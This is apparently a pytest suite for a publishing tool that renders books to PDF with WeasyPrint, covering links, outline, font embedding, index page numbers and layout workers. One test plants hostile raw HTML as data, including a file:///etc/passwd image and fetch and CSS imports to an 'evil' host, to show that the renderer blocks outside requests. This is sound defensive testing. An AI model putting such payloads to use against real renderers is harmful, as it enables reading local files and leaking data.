"""The PDF, checked with pypdf: links, outline, fonts, index page numbers, safety."""
from __future__ import annotations

import io
import logging
import re
import subprocess
import sys
from pathlib import Path

import pytest
import weasyprint
from fontTools.ttLib import TTFont
from pypdf import PdfReader

from publish import model as m
from publish.render import RenderOptions, fetcher, pdf, pdf_workers
from publish.build import load_book
from publish.tree import stringify, typeset_strings
from publish.theme.theme import load_theme

from tests.conftest import ROOT, SEEDS
from tests.render.conftest import corpus_source, rendered
from tests.resolve.test_images import png


@pytest.fixture(scope="module")
def default_pdf(tmp_path_factory: pytest.TempPathFactory) -> tuple[m.Book, PdfReader]:
    book, path = rendered(pdf, SEEDS, tmp_path_factory.mktemp("pdf") / "book.pdf")
    return book, PdfReader(path)


@pytest.fixture(scope="module")
def corpus_pdf(tmp_path_factory: pytest.TempPathFactory) -> tuple[m.Book, PdfReader]:
    book, path = rendered(pdf, corpus_source(), tmp_path_factory.mktemp("pdf") / "corpus.pdf")
    return book, PdfReader(path)


def _page_of(reader: PdfReader, name: str) -> int:
    return reader.get_destination_page_number(reader.named_destinations[name])


def _links(reader: PdfReader) -> list[tuple[int, dict]]:
    """Link annotations, one per link. WeasyPrint writes one rectangle per box of a link: a link
    broken over two lines ends at the right edge of the text and goes on at the left of the line
    below; a table-of-contents line's text, dot leader and page number are nested or touching
    boxes on one line."""
    links: list[tuple[int, dict]] = []
    for number, page in enumerate(reader.pages):
        annots = [a.get_object() for a in page.get("/Annots", []) if a.get_object()["/Subtype"] == "/Link"]
        right_edge = max((float(a["/Rect"][2]) for a in annots), default=0.0)
        for annot in annots:
            if links and links[-1][0] == number and _continues(links[-1][1], annot, right_edge):
                continue
            links.append((number, annot))
    return links


def _continues(previous: dict, annot: dict, right_edge: float) -> bool:
    if previous.get("/Dest", previous.get("/A")) != annot.get("/Dest", annot.get("/A")):
        return False
    (px0, ptop, px1, pbottom), (x0, top, _, _) = ([float(v) for v in a["/Rect"]] for a in (previous, annot))
    next_line = abs(top - pbottom) < 0.01 and x0 < px0 and px1 > right_edge - 2.0
    touching = abs(top - ptop) < 0.01 and x0 - px1 < 1.0
    return next_line or touching


def _generated_links(book: m.Book) -> int:
    """Links the book adds itself: table of contents and index locators."""
    toc = len(book.front_matter) + len(book.letters) + 1
    index = sum(len(item.targets) for group in book.index for item in group.items)
    return toc + index


@pytest.mark.parametrize("fixture", ["default_pdf", "corpus_pdf"])
def test_every_internal_link_lands_on_its_target(fixture: str, request: pytest.FixtureRequest) -> None:
    book, reader = request.getfixturevalue(fixture)
    titles = {e.id: e.title_text for e in book.entries}
    internal = [(n, a) for n, a in _links(reader) if "/Dest" in a]
    assert len(internal) == book.links + _generated_links(book)
    for _, annot in internal:
        target = annot["/Dest"]
        page = reader.pages[_page_of(reader, target)].extract_text()
        owner = book.anchors[target]
        expected = titles.get(owner) or ("Index" if owner == m.INDEX_ID else None)
        if expected:
            assert expected.split()[0] in page, (target, expected)


def test_index_links_land_on_the_index(default_pdf: tuple[m.Book, PdfReader]) -> None:
    book, reader = default_pdf
    index_page = _page_of(reader, m.INDEX_ID)
    assert reader.pages[index_page].extract_text().lstrip().startswith("Index")
    to_index = [a for _, a in _links(reader) if a.get("/Dest") == m.INDEX_ID]
    assert len(to_index) == len(book.entries) + 1  # every see-also list, and the table of contents


def test_external_links_stay_clickable(default_pdf: tuple[m.Book, PdfReader]) -> None:
    _, reader = default_pdf
    uris = {a["/A"]["/URI"] for _, a in _links(reader) if "/A" in a}
    assert "https://creativecommons.org/licenses/by-nc-sa/4.0/deed.de" in uris


def test_dangling_links_are_plain_text(corpus_pdf: tuple[m.Book, PdfReader]) -> None:
    book, reader = corpus_pdf
    targets = {a["/Dest"] for _, a in _links(reader) if "/Dest" in a}
    assert "Kigo" not in targets and "Renga" not in targets
    haiku = reader.pages[_page_of(reader, "Haiku")].extract_text()
    assert "Kigo" in haiku and "Renga" in haiku


def _outline(items: list, depth: int = 0) -> list[tuple[int, str]]:
    out: list[tuple[int, str]] = []
    for item in items:
        if isinstance(item, list):
            out.extend(_outline(item, depth + 1))
        else:
            out.append((depth, item["/Title"]))
    return out


@pytest.mark.parametrize("fixture", ["default_pdf", "corpus_pdf"])
def test_outline_has_letters_entries_front_matter_and_index(fixture: str, request: pytest.FixtureRequest) -> None:
    book, reader = request.getfixturevalue(fixture)
    outline = _outline(reader.outline)
    assert [title for depth, title in outline if depth == 1] == [e.title_text for e in book.entries]
    top = [title for depth, title in outline if depth == 0]
    front_titles = [stringify(next(b for b in f.blocks if isinstance(b, m.Header)).content) for f in book.front_matter]
    assert top == front_titles + [g.letter for g in book.letters] + ["Index"]


def test_all_fonts_are_embedded(default_pdf: tuple[m.Book, PdfReader]) -> None:
    _, reader = default_pdf
    fonts = _embedded_fonts(reader)
    assert fonts and all(data is not None for data in fonts.values()), fonts.keys()


def _embedded_fonts(reader: PdfReader) -> dict[str, bytes | None]:
    fonts: dict[str, bytes | None] = {}
    for page in reader.pages:
        for font in page["/Resources"].get("/Font", {}).values():
            font = font.get_object()
            descendant = font["/DescendantFonts"][0].get_object() if "/DescendantFonts" in font else font
            descriptor = descendant["/FontDescriptor"].get_object()
            stream = descriptor.get("/FontFile2") or descriptor.get("/FontFile3") or descriptor.get("/FontFile")
            fonts[font["/BaseFont"]] = stream.get_object().get_data() if stream else None
    return fonts


def test_every_character_of_the_corpus_is_in_an_embedded_font(corpus_pdf: tuple[m.Book, PdfReader]) -> None:
    book, reader = corpus_pdf
    covered: set[int] = set()
    for data in _embedded_fonts(reader).values():
        covered |= set(TTFont(io.BytesIO(data)).getBestCmap())
    used = {ord(c) for c in "".join(typeset_strings(book)) if not c.isspace()}
    missing = sorted(chr(c) for c in used - covered)
    assert missing == []
    assert {ord("√"), ord("–"), ord("₂")} <= covered


def test_index_page_numbers_are_where_entries_start(default_pdf: tuple[m.Book, PdfReader]) -> None:
    book, reader = default_pdf
    text = reader.pages[_page_of(reader, m.INDEX_ID)].extract_text()
    for entry in book.entries:
        match = re.search(rf"^{re.escape(entry.title_text)} (\d+)", text, re.M)
        assert match, (entry.title_text, text)
        assert int(match[1]) == _page_of(reader, entry.id) + 1
    assert re.search(r"^Grafikprozessor siehe GPU$", text, re.M)
    mark = next(t.id for g in book.index for i in g.items if i.term == "Energieeffizienz" for t in i.targets)
    assert re.search(rf"^Energieeffizienz {_page_of(reader, mark) + 1}$", text, re.M)


def test_failed_layout_leaves_the_previous_pdf(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    out = tmp_path / "book.pdf"
    out.write_bytes(b"%PDF previous good build")
    real_render = weasyprint.HTML.render

    def broken(self, *args, **kwargs):  # noqa: ANN001, ANN202
        logging.getLogger("weasyprint").error("No anchor #%s for internal URI reference", "Nowhere")
        return real_render(self, *args, **kwargs)

    monkeypatch.setattr(weasyprint.HTML, "render", broken)
    with pytest.raises(pdf.RenderError, match="No anchor #Nowhere"):  # one pass: the layout runs in this process
        pdf.render(load_book(SEEDS).book, load_theme("default"), out, options=RenderOptions(jobs=1, parts=False))
    assert out.read_bytes() == b"%PDF previous good build"
    assert list(tmp_path.iterdir()) == [out]


def test_hostile_raw_html_cannot_reach_outside_and_images_inside_work(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    source = tmp_path / "book"
    source.mkdir()
    (source / "punkt.png").write_bytes(png(1))
    (source / "A.md").write_text(
        "## A {#A .term}\n\n![Ein Punkt](punkt.png)\n\n"
        '<div><img src="file:///etc/passwd"><script>fetch("http://evil")</script>'
        '<style>@import url(http://evil/x.css);</style><link rel="stylesheet" href="http://evil/y.css">Rest</div>\n\n'
        'Text `<iframe src="http://evil"></iframe>`{=html} Ende.\n', encoding="utf-8")
    fetched: list[str] = []
    real_fetch = fetcher.SafeFetcher.fetch

    def spy(self, url, headers=None):  # noqa: ANN001, ANN202
        fetched.append(url)
        return real_fetch(self, url, headers)

    book = load_book(source).book
    monkeypatch.setattr(fetcher.SafeFetcher, "fetch", spy)
    result = pdf.render(book, load_theme("default"), tmp_path / "a.pdf", options=RenderOptions(jobs=1))
    text = "".join(page.extract_text() for page in PdfReader(result.path).pages)
    assert "Rest" in text and "Ende" in text and "evil" not in text
    assert (source / "punkt.png").as_uri() in fetched
    assert all(url.startswith(("file://", "data:")) and "passwd" not in url and "evil" not in url for url in fetched)


def test_text_is_set_in_the_theme_fonts_only(default_pdf: tuple[m.Book, PdfReader]) -> None:
    """Every font in the PDF is one of the theme's files (by the PostScript name inside the embedded
    font): a theme font that fails to load would fall back to a machine font such as DejaVu."""
    _, reader = default_pdf
    theme_fonts = {TTFont(face.path)["name"].getDebugName(6) for face in load_theme("default").fonts}
    embedded = {name: TTFont(io.BytesIO(data))["name"].getDebugName(6) for name, data in _embedded_fonts(reader).items()}
    assert set(embedded.values()) <= theme_fonts, embedded
    assert {"NotoSerif-Regular", "NotoSerif-Bold", "NotoSans-Bold"} <= set(embedded.values())


def _running_heads(reader: PdfReader) -> list[tuple[str, str]]:
    """The words above the type area of each page, split at the middle: (left, right)."""
    import pdfplumber

    heads = []
    with pdfplumber.open(io.BytesIO(reader.stream.getvalue())) as document:
        for page in document.pages:
            words = page.crop((0, 0, page.width, 45)).extract_words()
            heads.append(tuple(" ".join(w["text"] for w in words if (w["x0"] < page.width / 2) == left)
                               for left in (True, False)))
    return heads


def test_running_heads_are_dictionary_style(default_pdf: tuple[m.Book, PdfReader]) -> None:
    """README: the entry the page starts in on the left, the last entry begun on it on the right;
    none on the title page and the pages before the first entry."""
    book, reader = default_pdf
    heads = _running_heads(reader)
    begins = [(_page_of(reader, e.id), e.title_text) for e in book.entries]
    first, index = begins[0][0], _page_of(reader, m.INDEX_ID)
    assert all(head == ("", "") for head in heads[:first])
    for page in range(first, index):
        begun = [title for p, title in begins if p == page]
        running = [title for p, title in begins if p < page][-1:]
        left, right = heads[page]
        assert right == (begun or running)[-1], (page, heads[page])
        assert left in running + begun[:1] if page > first else left in ("", *begun[:1]), (page, heads[page])
    # Pages that begin inside an entry and start another: the two heads differ.
    assert any(left and right and left != right for left, right in heads[first:index])
    assert heads[index] == ("Index", "Index")


def model_targets(book: m.Book) -> set[str]:
    """Every id the book's links and index locators point at (headings and index marks among them)."""
    from publish.tree import walk

    blocks = [b for part in (*book.front_matter, *book.entries) for b in part.blocks]
    links = {n.url[1:] for n in walk(tuple(blocks)) if isinstance(n, m.Link) and n.url.startswith("#")}
    return links | {t.id for group in book.index for item in group.items for t in item.targets}


def test_links_to_headings_and_index_marks_name_them_not_their_entry(default_pdf: tuple[m.Book, PdfReader]) -> None:
    """A link to a section or an index mark lands on that place, not on the top of its entry."""
    book, reader = default_pdf
    targets = model_targets(book)
    assert targets - {e.id for e in book.entries} - {m.INDEX_ID}  # the book has such links
    assert targets <= {str(a["/Dest"]) for _, a in _links(reader) if "/Dest" in a}


def test_layout_workers_take_a_task_only_when_one_is_free(tmp_path: Path) -> None:
    """The parts' HTML is made as a worker becomes free for it: when the first part comes back,
    at most one more than the workers has been taken (the main process never holds every part's HTML)."""
    from publish.render.pdf_task import LayoutTask

    taken: list[int] = []

    def tasks() -> object:
        for n in range(5):
            taken.append(n)
            yield LayoutTask(f"<p>Teil {n}</p>", tmp_path.as_uri() + "/", (tmp_path,), None, tmp_path / f"{n}.pdf")

    seen = []
    with pdf_workers.workers(2, ["de-DE"]) as pool:
        for task, laid in pool.lay_out(tasks()):  # type: ignore[arg-type]
            seen.append(len(taken))
            assert not laid.errors and task.out.is_file()
    assert len(seen) == 5 and seen[0] <= 3


def test_layout_workers_give_a_parts_pages_before_its_pdf_is_written(tmp_path: Path) -> None:
    """Asked to tell when each PDF is written, the workers give a part's pages (anchors, no
    structure tree) as soon as they are laid out, so the next round need not wait for the PDF;
    each part's whole result (its structure tree too) is told once its PDF is written, at the
    latest when the block ends. A part that failed gives its errors at once."""
    from publish.render.pdf_part_tree import part_tree
    from publish.render.pdf_task import LayoutTask

    def task(n: int, body: str) -> LayoutTask:
        return LayoutTask(f'<html lang="de"><title>T</title><body>{body}</body></html>', tmp_path.as_uri() + "/",
                          (tmp_path,), "pdf/ua-1", tmp_path / f"{n}.pdf", tree=True, joined=True)

    tasks = [task(n, f'<h1 id="teil-{n}">Teil {n}</h1>' + "<p>Text.</p>" * 40 * n) for n in range(4)]
    tasks.append(task(4, '<p><a href="#nirgends">x</a></p><img src="fehlt.png">'))
    given: list[tuple[str, tuple[str, ...], bool]] = []
    written: dict[str, bool] = {}

    def told(done: LayoutTask, laid: object) -> None:
        tree = getattr(laid, "tree")
        # the tree read from the PDF as it was rewritten is the one its file gives
        written[done.out.name] = done.out.is_file() and tree is not None and tree == part_tree(done.out)

    with pdf_workers.workers(2, ["de-DE"]) as pool:
        for done, laid in pool.lay_out(tasks, told):
            given.append((done.out.name, laid.pages[0].anchors if laid.pages else (), laid.tree is None))
    assert sorted(given) == [(f"{n}.pdf", (f"teil-{n}",), True) for n in range(4)] + [("4.pdf", (), True)]
    assert written == {f"{n}.pdf": True for n in range(4)} | {"4.pdf": False}


def test_layout_workers_start_with_weasyprint_and_the_books_hyphenation_loaded_and_the_build_without(
        tmp_path: Path) -> None:
    """Forked from a server that imported WeasyPrint and parsed the book language's patterns, a
    worker parses them no more (0.4 s a part for German); the build's own process never imports
    WeasyPrint when it lays out in parts."""
    (tmp_path / "probe.py").write_text("import pyphen, sys\n\n\ndef loaded(_):\n"
                                       "    return sorted(path.name for path in pyphen.hdcache), 'weasyprint' in sys.modules\n")
    script = f"""
import sys, concurrent.futures
sys.path.insert(0, {str(tmp_path)!r})
import probe
from publish.render import pdf_workers

context = pdf_workers.fork_server(["de-DE"])
with concurrent.futures.ProcessPoolExecutor(1, mp_context=context) as pool:
    print(pool.submit(probe.loaded, 0).result(), probe.loaded(0))
"""
    result = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, check=True, cwd=ROOT)
    assert result.stdout.strip() == "(['hyph_de_DE.dic'], True) ([], False)"


def test_layout_workers_leave_no_font_files_behind(tmp_path: Path) -> None:
    """WeasyPrint copies the theme's fonts into a temporary folder per layout and leaves its removal
    to the garbage collector, which a worker process does not run before it exits."""
    import tempfile

    from publish.render.pdf_task import LayoutTask

    def font_folders() -> set[str]:
        return {p.name for p in Path(tempfile.gettempdir()).glob("weasyprint-*")}

    before = font_folders()
    theme = load_theme("default")
    css = "".join(f"@font-face {{ font-family: F{n}; src: url({face.path.as_uri()}) }}"
                  for n, face in enumerate(theme.fonts))
    tasks = [LayoutTask(f"<style>{css} p {{ font-family: F0 }}</style><p>Teil {n}</p>", tmp_path.as_uri() + "/",
                        (tmp_path, *theme.folders), None, tmp_path / f"{n}.pdf") for n in range(3)]
    with pdf_workers.workers(2, ["de-DE"]) as pool:
        assert len([laid for _, laid in pool.lay_out(tasks) if not laid.errors]) == 3
    assert font_folders() <= before


def test_a_layout_worker_killed_is_a_render_error_not_a_traceback(tmp_path: Path) -> None:
    """A worker the system kills (out of memory, say) stops the build with a message, as any other
    layout failure does."""
    import os
    import signal
    import threading

    from publish.render import RenderError
    from publish.render.pdf_task import LayoutTask

    task = LayoutTask("<p>Absatz mit etwas Text.</p>" * 20_000, tmp_path.as_uri() + "/", (tmp_path,), None,
                      tmp_path / "gross.pdf")
    with pytest.raises(RenderError, match="layout worker stopped"):
        with pdf_workers.workers(2, ["de-DE"]) as pool:
            def kill() -> None:
                while not pool.executor or not pool.executor._processes:  # type: ignore[attr-defined]
                    threading.Event().wait(0.05)
                threading.Event().wait(0.5)
                for pid in list(pool.executor._processes):  # type: ignore[attr-defined]
                    os.kill(pid, signal.SIGKILL)

            threading.Thread(target=kill, daemon=True).start()
            list(pool.lay_out([task]))
    assert not (tmp_path / "gross.pdf").exists()


@pytest.mark.filterwarnings("error::PIL.Image.DecompressionBombWarning")
def test_an_image_of_ninety_million_pixels_is_laid_out_without_pillows_warning(tmp_path: Path) -> None:
    """Images reach the layout checked (at most 100 million pixels): Pillow's warning from 89 million
    on would be printed on standard error, here raised, and the image lost."""
    import struct
    import zlib

    from publish.render import pdf_layout
    from publish.render.pdf_task import LayoutTask

    side = 9_500
    packer = zlib.compressobj(9)
    pixels = b"".join(packer.compress(b"\0" * (side + 1)) for _ in range(side)) + packer.flush()

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    (tmp_path / "gross.png").write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0))
                                         + chunk(b"IDAT", pixels) + chunk(b"IEND", b""))
    laid = pdf_layout.lay_out(LayoutTask('<img src="gross.png" style="width: 5cm">', tmp_path.as_uri() + "/",
                                         (tmp_path,), None, tmp_path / "bild.pdf"))
    assert laid.errors == () and b"/Image" in (tmp_path / "bild.pdf").read_bytes()
